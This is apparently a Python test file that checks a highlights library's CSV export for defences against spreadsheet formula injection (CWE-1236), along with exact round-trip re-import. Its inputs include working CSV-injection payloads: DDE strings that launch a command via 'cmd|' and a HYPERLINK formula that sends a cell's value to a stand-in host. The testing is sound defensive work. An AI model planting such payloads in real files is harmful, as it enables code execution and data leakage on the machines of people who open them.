"""CSV export neutralises spreadsheet formulas (CWE-1236), and re-importing our own export
undoes it, so the round trip stays exact (issue 31, item 6)."""

from __future__ import annotations

import csv
from pathlib import Path

from screvi_mcp.local.api.bodies import HighlightCreate, SourceCreate
from screvi_mcp.local.storage.library import Library
from screvi_mcp.local.storage.store import highlights as highlight_store
from screvi_mcp.local.storage.store import sources as source_store
from screvi_mcp.local.storage.store.highlights import HighlightFilters
from screvi_mcp.transfer import jobs
from screvi_mcp.transfer.exporters import export_library

DANGEROUS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "'=already quoted once",
    "''+twice",
    "A plain passage; nothing to neutralise.",
    "'an apostrophe that stays",
]


def contents(path: Path) -> set[tuple[str, str, str]]:
    library = Library.open(path)
    try:
        rows, _ = highlight_store.list_page(library.connection(), HighlightFilters(), 1, 100)
        return {(r["content"], r["note"] or "", r["source"]["name"]) for r in rows}
    finally:
        library.close()


def test_formulas_are_neutralised_and_the_round_trip_stays_exact(tmp_path: Path) -> None:
    library_path = tmp_path / "library.sqlite"
    library = Library.open(library_path)
    try:
        source = source_store.create(library, SourceCreate(name="=cmd|'/C calc'!A0", type="book"))
        highlight_store.create_many(
            library,
            [
                HighlightCreate(content=text, note=f"-note {n}", source_id=source["id"])
                for n, text in enumerate(DANGEROUS)
            ],
            bulk=False,
        )
    finally:
        library.close()
    exported = tmp_path / "export.csv"
    export_library("csv", exported, library_path)
    with exported.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", cell
    fresh = tmp_path / "fresh.sqlite"
    report = jobs.import_file("readwise", exported, fresh, embed=False)
    assert not report.rejected
    assert contents(fresh) == contents(library_path)


def test_neutralising_is_undone_exactly_for_every_formula_start() -> None:
    """Tab and CR starts too (the importer trims them off a highlight, so they are checked
    here rather than through a library)."""
    from screvi_mcp.transfer.readwise import neutralise, restore

    for cell in ["\tx", "\rx", "=1", "'=1", "''@x", "'", "'plain", "plain", ""]:
        assert restore(neutralise(cell)) == cell
        assert not neutralise(cell)[:1] or neutralise(cell)[0] not in "=+-@\t\r"


def test_a_readwise_file_keeps_its_apostrophes(tmp_path: Path) -> None:
    """Only our own export (it has our columns) is un-neutralised: a Readwise cell that
    starts with an apostrophe is the reader's text."""
    source = tmp_path / "readwise.csv"
    source.write_text(
        'Highlight,Book Title,Book Author\n"\'=not ours",A Book,Someone\n', encoding="utf-8"
    )
    library_path = tmp_path / "library.sqlite"
    jobs.import_file("readwise", source, library_path, embed=False)
    assert {c for c, _, _ in contents(library_path)} == {"'=not ours"}
